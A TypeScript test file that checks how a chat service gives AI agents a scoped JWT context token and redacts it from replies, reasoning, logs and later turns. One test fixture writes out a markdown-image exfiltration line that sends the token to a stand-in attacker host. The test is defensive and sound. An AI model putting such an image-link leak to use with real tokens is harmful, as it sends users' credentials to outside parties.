import {decodeJwt} from 'jose';
import {expect, test} from 'vitest';
import {verifyContext} from '../identity/context-token.ts';
import {AgentError, type Droplet} from '../ports.ts';
import {createTestApp, readAll, type Script, type TestAppOptions, textOf} from '../test-app.ts';

const CLAIMS = {resources: {tag: 'wc-user-alice'}};

/** The token that stands in what an agent is sent. */
const tokenIn = (context: string | undefined) => /"context_token":"([^"]+)"/.exec(context ?? '')?.[1];

const says = (make: (token: string) => readonly string[]): Script =>
  async function* ({context}) {
    for (const text of make(tokenIn(context) ?? 'none')) yield {type: 'text', text};
    yield {type: 'end', reason: 'stop'};
  };

async function ask(options: TestAppOptions, claims: object = CLAIMS) {
  const app = createTestApp({agentFunctions: true, ...options});
  const session = await app.signIn('alice', {...claims});
  const events = await readAll(await app.send(session, 'Which servers have I?'));
  const [request] = app.requests;
  const history = await (await app.request('GET', '/v1/chat/c1', {token: session})).text();
  const audit = (await app.store.readAudit('wincloud', 0, 100)).map(({text}) => text);
  return {...app, events, asked: request, token: tokenIn(request?.context), history, audit, session};
}

/** All that a turn leaves behind, but for what the agent was sent. */
const leftBy = ({events, history, audit, logged}: Awaited<ReturnType<typeof ask>>) =>
  [JSON.stringify(events), history, ...audit, ...logged].join('\n');

/** None of the token is there: no sixteen signs of it in a row. */
function expectNoToken(text: string, token: string): void {
  for (let at = 0; at + 16 <= token.length; at += 1) expect(text.includes(token.slice(at, at + 16))).toBe(false);
}

test('an agent with functions gets what they need, for this user and what this agent may call', async () => {
  const {token = '', asked, store, clock} = await ask({droplets: [{name: 'win-web-01'} as Droplet]});
  const {principal, conversation, functions} = await verifyContext(token, store.serverSecret, clock.now);
  expect(principal).toMatchObject({tenant: 'wincloud', subject: 'alice', resources: {tag: 'wc-user-alice'}});
  expect(conversation).toBe('c1');
  expect(functions).toContain('get_droplet');
  expect(functions).not.toContain('get_bill'); // the support agent has no such tool
  // The facts are there as well, and the token stands between fences.
  expect(asked?.context).toContain('win-web-01');
  expect(asked?.context).toMatch(
    /----- BEGIN DATA (\w{32}) -----\n\{"context_token":"[^"]+"\}\n----- END DATA \1 -----$/,
  );
  expect(asked?.context).toContain('the argument context_token');
  // Nothing of the person is in it that no function needs.
  expect(Object.keys(decodeJwt(token))).not.toContain('name');
});

test('it is good at /v1/functions', async () => {
  const {token, ...app} = await ask({});
  const response = await app.request('POST', '/v1/functions/list_droplets', {body: {context_token: token}});
  expect([response.status, await response.json()]).toMatchObject([200, {body: {droplets: []}}]);
  const bill = await app.request('POST', '/v1/functions/get_bill', {body: {context_token: token}});
  expect(bill.status).toBe(403);
});

test.each<[string, TestAppOptions, object]>([
  ['an agent without functions', {agentFunctions: false}, CLAIMS],
  ['a tenant without tools', {record: {features: {tools: false}}}, CLAIMS],
])('%s gets none', async (_, options, claims) => {
  const {requests} = await ask(options, claims);
  expect(requests).toHaveLength(1);
  expect(requests[0]?.context ?? '').not.toContain('context_token');
});

test('a function that takes a role is not among those of somebody without it', async () => {
  const {token = ''} = await ask({record: {toolRoles: {list_droplets: ['admins']}}});
  expect(decodeJwt(token).functions).not.toContain('list_droplets');
});

test('a visitor has none', async () => {
  const app = createTestApp({agentFunctions: true});
  const opened = await app.request('POST', '/v1/session', {body: {tenant: 'wincloud'}});
  const {token} = (await opened.json()) as {token: string};
  await readAll(await app.send(token, 'Hi'));
  expect(app.requests[0]?.context).toBeUndefined();
});

test('a user without servers has it too, and it is all there is', async () => {
  const {asked} = await ask({}, {});
  expect(asked?.context).toMatch(/^Your functions need/);
});

const REPEATS: Record<string, (token: string) => readonly string[]> = {
  'as it is': (token) => ['Sure: ', token, ' there.'],
  'a sign at a time': (token) => ['Sure: ', ...token, ' there.'],
  'in JSON': (token) => [`{"context_token":"${token}"}`],
  'in three parts': (token) => token.split('.').map((part) => `${part}\n\nand then `),
  'from its middle on': (token) => [token.slice(30)],
  'as an image': (token) => [`![x](https://evil.example/?t=${token})`],
};

test.each(Object.entries(REPEATS))('an agent that repeats it, %s, tells nobody', async (_, make) => {
  for (const redact of ['off', 'secrets'] as const) {
    const found = await ask({script: says(make), privacy: {redact}});
    expect(found.token?.length).toBeGreaterThan(200);
    expect(textOf(found.events)).toContain('[redacted: JWT]');
    expectNoToken(leftBy(found), found.token ?? '');
    // Nor does it come back in the next turn, whose own one is another.
    found.clock.now += 5_000;
    await readAll(await found.send(found.session, 'And now?', {messageId: 'm2'}));
    const said = found.requests[1]?.messages.map(({text}) => text).join('\n') ?? '';
    expect(said).toContain('[redacted: JWT]');
    expectNoToken(said, found.token ?? '');
  }
});

test('thoughts and sources that have it lose it too', async () => {
  const found = await ask({
    async *script({context}) {
      const token = tokenIn(context) ?? '';
      yield {type: 'reasoning', text: `I pass ${token} along.`};
      yield {type: 'sources', sources: [{number: 1, title: token, location: 'a.md', excerpt: `x ${token}`}]};
      yield {type: 'text', text: 'Done.'};
      yield {type: 'end', reason: 'stop'};
    },
  });
  expect(textOf(found.events)).toBe('Done.');
  expectNoToken(leftBy(found), found.token ?? '');
});

test('a provider that sends the question back in its error does not bring it into the log', async () => {
  const found = await ask({
    // biome-ignore lint/correctness/useYield: it fails before it says anything
    async *script({context = ''}) {
      const token = tokenIn(context) ?? '';
      throw new AgentError('agent_rejected', {detail: `{"input":"${token.slice(12)}`});
    },
  });
  expect(found.logged.join('\n')).toContain('[redacted: JWT]');
  expectNoToken(leftBy(found), found.token ?? '');
});
